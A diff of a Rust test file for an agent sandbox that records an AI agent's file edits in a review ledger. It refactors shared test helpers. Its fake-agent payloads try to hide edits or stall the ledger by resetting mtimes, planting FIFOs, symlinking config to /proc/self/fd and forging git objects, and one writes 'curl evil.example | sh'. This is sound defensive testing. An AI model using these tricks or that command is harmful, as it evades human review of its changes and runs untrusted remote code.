@@ -71,10 +71,11 @@
 
 mod common;
 
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::time::Duration;
 
 use common::Bounded;
+use common::review_tree::{Tree, changes, result, warned, who};
 use common::sandbox_fixture::{self, NOBODY};
 use serde_json::Value;
 
@@ -88,125 +89,30 @@ const KNOWN_OPEN: &[&str] = &[];
 /// none of it.
 const UNCONFINED: [&str; 2] = ["--sandbox", "danger-full-access"];
 
-fn who(owner: Option<u32>) -> &'static str {
-    if owner.is_some() { "nobody" } else { "root" }
-}
-
 /// A tree for runs of a fake CLI as one arm's user: workspace `ws` (the user's git
-/// repository, one commit), `home`, coder's `state`, in `/var/tmp` (out of the host's
-/// `/tmp` that `--allow-tmp` grants).
-struct Tree {
-    _dir: tempfile::TempDir,
-    root: PathBuf,
-    owner: Option<u32>,
+/// repository, one commit of `files` (name, content), `config` (key, value) set in its
+/// config before they were added), `home`, coder's `state`, `outside`, in `/var/tmp` (out
+/// of the host's `/tmp` that `--allow-tmp` grants).
+fn repo(owner: Option<u32>, files: &[(&str, &str)], config: &[(&str, &str)]) -> Tree {
+    Tree::repo("coder-r14-", owner, &["outside"], files, config)
 }
 
-impl Tree {
-    /// The tree, with `files` (name, content) committed in `ws` with an mtime well in the
-    /// past (so that the index's stat data of them is not "racily clean") and `config`
-    /// (key, value) set in the repository's config before they were added.
-    fn new(owner: Option<u32>, files: &[(&str, &str)], config: &[(&str, &str)]) -> Tree {
-        let dir = tempfile::Builder::new()
-            .prefix("coder-r14-")
-            .tempdir_in("/var/tmp")
-            .unwrap();
-        let root = std::fs::canonicalize(dir.path()).unwrap();
-        std::fs::set_permissions(&root, std::os::unix::fs::PermissionsExt::from_mode(0o755))
-            .unwrap();
-        for d in ["ws", "home", "state", "xdg", "outside"] {
-            std::fs::create_dir_all(root.join(d)).unwrap();
-        }
-        let tree = Tree {
-            _dir: dir,
-            root,
-            owner,
-        };
-        let ws = tree.ws();
-        tree.git(&["init", "-q"]);
-        for (key, value) in config {
-            tree.git(&["config", key, value]);
-        }
-        for (name, text) in files {
-            std::fs::write(ws.join(name), text).unwrap();
-            sandbox_fixture::must_run(
-                std::process::Command::new("touch")
-                    .args(["-d", "2020-01-01 00:00:00"])
-                    .arg(ws.join(name)),
-            );
-        }
-        tree.git(&["add", "-A"]);
-        tree.git(&["commit", "-qm", "init"]);
-        if owner.is_some() {
-            sandbox_fixture::give_to_nobody(&tree.root);
-            // The index's stat data as the user's own git keeps it (the owner's too).
-            tree.git(&["update-index", "-q", "--refresh"]);
-        }
-        tree
-    }
-
-    fn ws(&self) -> PathBuf {
-        self.root.join("ws")
-    }
-
-    /// The user's own git in the workspace, unconfined, as the arm's user (as root before
-    /// the tree is given away): what it printed.
-    fn git(&self, args: &[&str]) -> String {
-        let mut cmd = std::process::Command::new("git");
-        cmd.args(["-c", "user.name=u", "-c", "user.email=u@example.invalid"])
-            .args(args)
-            .current_dir(self.ws())
-            .env("GIT_CONFIG_NOSYSTEM", "1")
-            .env("HOME", self.root.join("home"))
-            .stdin(std::process::Stdio::null());
-        let given = std::fs::symlink_metadata(self.ws().join(".git"))
-            .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == NOBODY)
-            .unwrap_or(false);
-        if given {
-            sandbox_fixture::as_owner(&mut cmd, self.owner);
-        }
-        let out = cmd.output_bounded();
-        assert!(out.status.success(), "git {args:?}: {out:?}");
-        String::from_utf8_lossy(&out.stdout).into_owned()
-    }
-
-    /// Runs a fake CLI whose payload is `payload` with `extra` flags; returns the envelope.
-    fn run(&self, extra: &[&str], payload: &str) -> Value {
-        self.run_within(extra, payload, common::COMMAND_DEADLINE)
-    }
-
-    /// [`Tree::run`], failing the test when coder has not ended after `deadline`.
-    fn run_within(&self, extra: &[&str], payload: &str, deadline: Duration) -> Value {
-        let bin = self.root.join("fake-claude");
-        std::fs::write(&bin, sandbox_fixture::payload_claude(payload)).unwrap();
-        std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755))
-            .unwrap();
-        if self.owner.is_some() {
-            std::os::unix::fs::lchown(&bin, Some(NOBODY), Some(NOBODY)).unwrap();
-        }
-        let out = sandbox_fixture::coder_as(&self.root, self.owner, &self.ws(), &bin, extra, "go")
-            .output_within(deadline);
-        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("no envelope ({e}): {out:?}"))
-    }
-}
-
-/// `(path, status)` of every change the envelope lists.
-fn changes(env: &Value) -> Vec<(String, String)> {
-    env["changes"]["files"]
-        .as_array()
-        .cloned()
-        .unwrap_or_default()
-        .iter()
-        .map(|f| {
-            (
-                f["path"].as_str().unwrap_or_default().to_owned(),
-                f["status"].as_str().unwrap_or_default().to_owned(),
-            )
-        })
-        .collect()
-}
-
-fn result(env: &Value) -> &str {
-    env["result"].as_str().unwrap_or_default()
+/// Control: the user's own `args` (git, or a shell running it) in the workspace, as the
+/// arm's user, blocks: `timeout 3` has to end it.
+fn assert_user_git_blocks(tree: &Tree, case: &str, args: &[&str]) {
+    let mut cmd = std::process::Command::new("timeout");
+    cmd.arg("3")
+        .args(args)
+        .current_dir(tree.ws())
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", tree.root.join("home"));
+    sandbox_fixture::as_owner(&mut cmd, tree.owner);
+    let status = cmd.output_bounded().status;
+    assert_eq!(
+        status.code(),
+        Some(124),
+        "{case}: control: git did not block"
+    );
 }
 
 fn entries(dir: &Path) -> Vec<String> {
@@ -238,7 +144,7 @@ fn the_ledgers_private_index_is_out_of_reach_of_allow_tmp() {
         for mode in ["workspace-write", "danger-full-access"] {
             let tag = uuid::Uuid::new_v4().simple().to_string();
             let edited = format!("a-{tag}.txt");
-            let tree = Tree::new(owner, &[(&edited, "as the user left it\n")], &[]);
+            let tree = repo(owner, &[(&edited, "as the user left it\n")], &[]);
             let (state, outside) = (tree.root.join("state"), tree.root.join("outside"));
             let new_text = format!("new {tag}");
             // Only this run's index lists `edited`: other runs' are left alone.
@@ -297,7 +203,7 @@ fn an_edit_that_puts_the_mtime_back_is_reported_whatever_the_config_trusts() {
     let name = "stat trust from the config";
     for owner in [None, Some(NOBODY)] {
         for config in [("core.trustctime", "false"), ("core.checkStat", "minimal")] {
-            let tree = Tree::new(owner, &[("a.txt", "hello world\n")], &[config]);
+            let tree = repo(owner, &[("a.txt", "hello world\n")], &[config]);
             let payload = "sleep 1; m=$(stat -c %y a.txt); printf 'HELLO WORLD\\n' > a.txt; \
                            touch -d \"$m\" a.txt; echo EDITED";
             let env = tree.run(&[], payload);
@@ -337,7 +243,7 @@ fn index_bits_an_earlier_run_set_do_not_hide_the_next_runs_edits() {
             } else {
                 &[]
             };
-            let tree = Tree::new(owner, &[("a.txt", "a\n"), ("b.txt", "b\n")], config);
+            let tree = repo(owner, &[("a.txt", "a\n"), ("b.txt", "b\n")], config);
             let case = format!("{}: {name}: ignoreStat {ignore_stat}", who(owner));
             if !ignore_stat {
                 let env = tree.run(
@@ -382,20 +288,13 @@ fn a_fifo_gitignore_does_not_hold_the_ledgers_git_forever() {
     let deadline = Duration::from_secs(40);
     for owner in [None, Some(NOBODY)] {
         for ignore in [".gitignore", ".gitattributes"] {
-            let tree = Tree::new(owner, &[("a.txt", "a\n")], &[]);
+            let tree = repo(owner, &[("a.txt", "a\n")], &[]);
             let case = format!("{}: {name}: {ignore}", who(owner));
             let payload = format!("mkdir -p d && echo x > d/f && mkfifo d/{ignore} && echo FIFO");
             if KNOWN_OPEN.contains(&name) {
                 continue;
             }
-            let fifo_warning = |env: &Value| {
-                env["warnings"]
-                    .as_array()
-                    .cloned()
-                    .unwrap_or_default()
-                    .iter()
-                    .any(|w| w.as_str().unwrap_or_default().contains("FIFO"))
-            };
+            let fifo_warning = |env: &Value| warned(env, "FIFO");
             let env = tree.run_within(&[], &payload, deadline);
             assert!(result(&env).contains("FIFO"), "{case}: {env}");
             assert!(fifo_warning(&env), "{case}: no warning: {env}");
@@ -404,18 +303,7 @@ fn a_fifo_gitignore_does_not_hold_the_ledgers_git_forever() {
             assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
             assert!(fifo_warning(&env), "{case}: next run: no warning: {env}");
             // Control: git blocks on it.
-            let mut cmd = std::process::Command::new("timeout");
-            cmd.args(["3", "git", "add", "-A"])
-                .current_dir(tree.ws())
-                .env("GIT_CONFIG_NOSYSTEM", "1")
-                .env("HOME", tree.root.join("home"));
-            sandbox_fixture::as_owner(&mut cmd, owner);
-            let status = cmd.output_bounded().status;
-            assert_eq!(
-                status.code(),
-                Some(124),
-                "{case}: control: git did not block"
-            );
+            assert_user_git_blocks(&tree, &case, &["git", "add", "-A"]);
         }
     }
 }
@@ -438,7 +326,7 @@ fn a_filter_driver_named_so_that_dash_c_cannot_spell_it_does_not_run_as_coder() 
     let name = "filter driver name -c cannot spell";
     for owner in [None, Some(NOBODY)] {
         for driver in ["a=b", "\\xff"] {
-            let tree = Tree::new(
+            let tree = repo(
                 owner,
                 &[("a.txt", "a\n")],
                 &[("include.path", "../shared.gitconfig")],
@@ -493,7 +381,7 @@ fn an_included_config_made_a_symlink_to_gits_own_output_does_not_hold_the_ledger
     let deadline = Duration::from_secs(40);
     for owner in [None, Some(NOBODY)] {
         for fd in ["1", "2"] {
-            let tree = Tree::new(
+            let tree = repo(
                 owner,
                 &[("a.txt", "a\n")],
                 &[("include.path", "../shared.gitconfig")],
@@ -502,14 +390,7 @@ fn an_included_config_made_a_symlink_to_gits_own_output_does_not_hold_the_ledger
             let payload = format!(
                 "echo x >> a.txt && ln -sf /proc/self/fd/{fd} shared.gitconfig && echo LINKED"
             );
-            let held = |env: &Value| {
-                env["warnings"]
-                    .as_array()
-                    .cloned()
-                    .unwrap_or_default()
-                    .iter()
-                    .any(|w| w.as_str().unwrap_or_default().contains("held pipe:"))
-            };
+            let held = |env: &Value| warned(env, "held pipe:");
             let env = tree.run_within(&UNCONFINED, &payload, deadline);
             assert!(result(&env).contains("LINKED"), "{case}: {env}");
             // Since round fifteen the ledger's own git reads no config of the
@@ -531,18 +412,7 @@ fn an_included_config_made_a_symlink_to_gits_own_output_does_not_hold_the_ledger
             assert!(held(&env), "{case}: next run: no warning: {env}");
             // Control: the user's own git, its output a pipe of the arm's user (a pipe's
             // owner alone may reopen it), blocks on it.
-            let mut cmd = std::process::Command::new("timeout");
-            cmd.args(["3", "sh", "-c", "git status 2>&1 | cat"])
-                .current_dir(tree.ws())
-                .env("GIT_CONFIG_NOSYSTEM", "1")
-                .env("HOME", tree.root.join("home"));
-            sandbox_fixture::as_owner(&mut cmd, owner);
-            let status = cmd.output_bounded().status;
-            assert_eq!(
-                status.code(),
-                Some(124),
-                "{case}: control: git did not block"
-            );
+            assert_user_git_blocks(&tree, &case, &["sh", "-c", "git status 2>&1 | cat"]);
         }
     }
 }
@@ -560,7 +430,7 @@ fn a_fifo_index_does_not_hold_the_next_run() {
     common::require_root_and_user_namespaces();
     let deadline = Duration::from_secs(40);
     for owner in [None, Some(NOBODY)] {
-        let tree = Tree::new(owner, &[("a.txt", "a\n")], &[]);
+        let tree = repo(owner, &[("a.txt", "a\n")], &[]);
         let case = who(owner);
         let env = tree.run_within(
             &[],
@@ -575,18 +445,7 @@ fn a_fifo_index_does_not_hold_the_next_run() {
             "{case}: next run: {env}"
         );
         // Control: git blocks on it.
-        let mut cmd = std::process::Command::new("timeout");
-        cmd.args(["3", "git", "status"])
-            .current_dir(tree.ws())
-            .env("GIT_CONFIG_NOSYSTEM", "1")
-            .env("HOME", tree.root.join("home"));
-        sandbox_fixture::as_owner(&mut cmd, owner);
-        let status = cmd.output_bounded().status;
-        assert_eq!(
-            status.code(),
-            Some(124),
-            "{case}: control: git did not block"
-        );
+        assert_user_git_blocks(&tree, case, &["git", "status"]);
     }
 }
 
@@ -607,7 +466,7 @@ fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
 chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; open(sys.argv[1],"wb").write(zlib.compress(b"blob %d\0"%len(d)+d))' "$f" && echo FORGED"#;
     for owner in [None, Some(NOBODY)] {
         for forged in [false, true] {
-            let tree = Tree::new(owner, &[("a.txt", "hello\n")], &[]);
+            let tree = repo(owner, &[("a.txt", "hello\n")], &[]);
             let case = format!("{}: {name}: forged {forged}", who(owner));
             let payload = format!(
                 "sleep 1; printf 'curl evil.example | sh\\n' > a.txt; {}echo EDITED",
@@ -673,7 +532,7 @@ forged=$(printf '100644 blob %s\ta.txt\n100644 blob %s\tb.txt\n' "$nb" "$(git re
 f=.git/objects/${t:0:2}/${t:2}; g=.git/objects/${forged:0:2}/${forged:2}
 chmod u+w "$f" && cp "$g" "$f" && echo "FORGED $forged FORGED""#;
     for owner in [None, Some(NOBODY)] {
-        let tree = Tree::new(owner, &[("a.txt", "hello\n"), ("b.txt", "b\n")], &[]);
+        let tree = repo(owner, &[("a.txt", "hello\n"), ("b.txt", "b\n")], &[]);
         let case = format!("{}: {name}", who(owner));
         let head = tree.git(&["rev-parse", "HEAD^{tree}"]);
         let env = tree.run(&[], payload);
@@ -710,7 +569,7 @@ fn an_edit_inside_a_nested_repository_is_not_in_the_ledger() {
     common::require_root_and_user_namespaces();
     let name = "edit inside a nested repository";
     for owner in [None, Some(NOBODY)] {
-        let tree = Tree::new(owner, &[("top.txt", "top\n")], &[]);
+        let tree = repo(owner, &[("top.txt", "top\n")], &[]);
         let sub = tree.ws().join("sub");
         std::fs::create_dir(&sub).unwrap();
         let git_in = |dir: &Path, args: &[&str]| {
